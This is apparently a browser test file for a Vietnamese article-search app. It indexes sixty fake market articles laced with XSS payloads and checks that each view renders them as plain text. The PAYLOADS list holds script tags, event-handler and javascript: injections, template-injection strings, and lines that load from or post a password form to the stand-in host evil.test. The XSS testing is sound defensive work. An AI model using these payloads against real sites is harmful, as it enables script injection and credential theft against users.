"""Sixty poisoned articles in every place where text is shown: nothing runs, nothing leaves."""

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Page

from index.ingest import index_texts
from index.types import Embedder, RawText
from tests import browser as driving
from tests import houses
from tests.conftest import share_model

pytestmark = pytest.mark.browser
PAYLOADS = (
    "<script>window.hacked=1</script>",
    '<img src=x onerror="window.hacked=1">',
    '<img src="http://evil.test/theo-doi.png">',
    "<form action=http://evil.test><input name=mat-khau><button>Gửi</button></form>",
    "![ảnh](http://evil.test/anh.png)",
    "[bấm vào đây](javascript:window.hacked=1)",
    "<a href='javascript:window.hacked=1'>xem thêm</a>",
    "<svg onload=window.hacked=1></svg>",
    "<style>@import url(http://evil.test/c.css);body{display:none}</style>",
    "<iframe src=http://evil.test></iframe>",
    "${window.hacked=1} {{window.hacked=1}} <%= window.hacked=1 %>",
    "\"'><video src=http://evil.test/v.mp4 autoplay onplay=window.hacked=1></video>",
)
PLACES = ("Mường Tơ", "Bản Lác", "Khe Sanh", "Đồng Sim", "Phiềng Cát")
EACH = [(place, payload) for place in PLACES for payload in PAYLOADS]


def poisoned() -> list[RawText]:
    """Each article states one fact of its own, the payload around and inside the sentence that tells it."""
    made = []
    for number, (place, payload) in enumerate(EACH, start=1):
        title = f"Chợ phiên {place} số {number} {payload}"
        text = (
            f"{title}\n\nNgày {number % 28 + 1}/3/2025, xã {place} mở chợ phiên số {number}. "
            f"Chợ phiên số {number} của xã {place} rộng {1000 + number} mét vuông {payload}.\n\n"
            f"Ban quản lý chợ cho biết {payload} sẽ mở thêm quầy hàng."
        )
        name = payload.replace("/", "∕")
        made.append(RawText(f"cho/{number}{name}.txt", text, "", title, "2025-03-05", payload, payload))
    return made


@pytest.fixture(scope="module")
def site(e5_home: Path, e5_embedder: Embedder, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    home = tmp_path_factory.mktemp("poison") / "home"
    share_model(e5_home, home)
    report = index_texts(home, poisoned(), e5_embedder)
    assert report.added == 60
    with houses.house(home, e5_embedder) as rooms, houses.serving(rooms) as address:
        rooms.desk.warm()
        yield address


@pytest.fixture(scope="module")
def page(opened: Page) -> Page:
    return opened


def assert_harmless(page: Page) -> None:
    """What poison would leave behind."""
    found = page.evaluate(
        """active => ({
            hacked: window.hacked ?? 0,
            forms: document.forms.length,
            inside: [...document.querySelectorAll('#hb-past, #hb-live, #hb-side, #hb-library, #hb-article')]
              .flatMap(zone => [...zone.querySelectorAll(active)]).length,
            styles: [...document.querySelectorAll('style')].filter(s => /evil/.test(s.textContent)).length,
            links: [...document.links].filter(a => /^javascript|evil/.test(a.protocol + a.host)).length,
        })""",
        "script, img, iframe, video, form, object, embed",
    )
    assert found == {"hacked": 0, "forms": 0, "inside": 0, "styles": 0, "links": 0}


def test_the_list_shows_all_sixty_as_text(page: Page) -> None:
    driving.library(page)
    page.wait_for_selector(".hb-read >> nth=49")
    assert_harmless(page)
    shown = page.locator("#hb-articles").inner_text()
    page.locator("[data-offset='50']").click()
    page.wait_for_function("document.querySelectorAll('.hb-read').length === 10")
    assert_harmless(page)
    shown += page.locator("#hb-articles").inner_text()
    assert all(payload in shown for payload in PAYLOADS)


def test_every_article_opens_as_text(page: Page) -> None:
    for raw in poisoned():
        page.evaluate(
            """async source => {
                const html = await window.hoibaoBridge.server.article(
                  {source, start: 0, end: 9, quote: 'Chợ phiên', marks: []});
                const zone = document.createElement('div');
                zone.id = 'hb-article';
                zone.innerHTML = html;
                document.querySelector('.gradio-container').append(zone);
            }""",
            raw.source,
        )
        assert_harmless(page)
        text = page.locator("#hb-article").inner_text()
        assert "sẽ mở thêm quầy hàng" in text
        page.evaluate("document.querySelector('#hb-article').remove()")


def test_every_answer_card_and_conversation_is_text(page: Page) -> None:
    cited = 0
    for number, (place, payload) in enumerate(EACH, start=1):
        if number % len(PLACES) == 1:
            driving.fresh(page)
        driving.ask(page, f"Chợ phiên số {number} của xã {place} rộng bao nhiêu mét vuông? {payload}")
        cited += page.locator("#hb-live .hb-card").count() > 0
        assert_harmless(page)
    assert cited >= 30, "too few answers cite poison to prove anything"
    page.reload()
    driving.ready(page)
    assert_harmless(page)


def test_the_reasons_the_names_and_the_copies_are_text(page: Page) -> None:
    row = page.locator(".hb-list li").first
    row.hover()
    row.locator("[data-do=rename]").click()
    page.locator(".hb-rename").fill(PAYLOADS[1])
    page.keyboard.press("Enter")
    page.wait_for_selector(f"text={PAYLOADS[1]}")
    page.locator('#hb-live [data-vote="-1"]').click()
    page.locator(".hb-reason textarea").fill(PAYLOADS[0])
    page.locator(".hb-reason button").click()
    page.wait_for_selector("text=Cảm ơn")
    text = page.locator("#hb-live .hb-plain").text_content() or ""
    assert "Chợ phiên" in text
    assert_harmless(page)
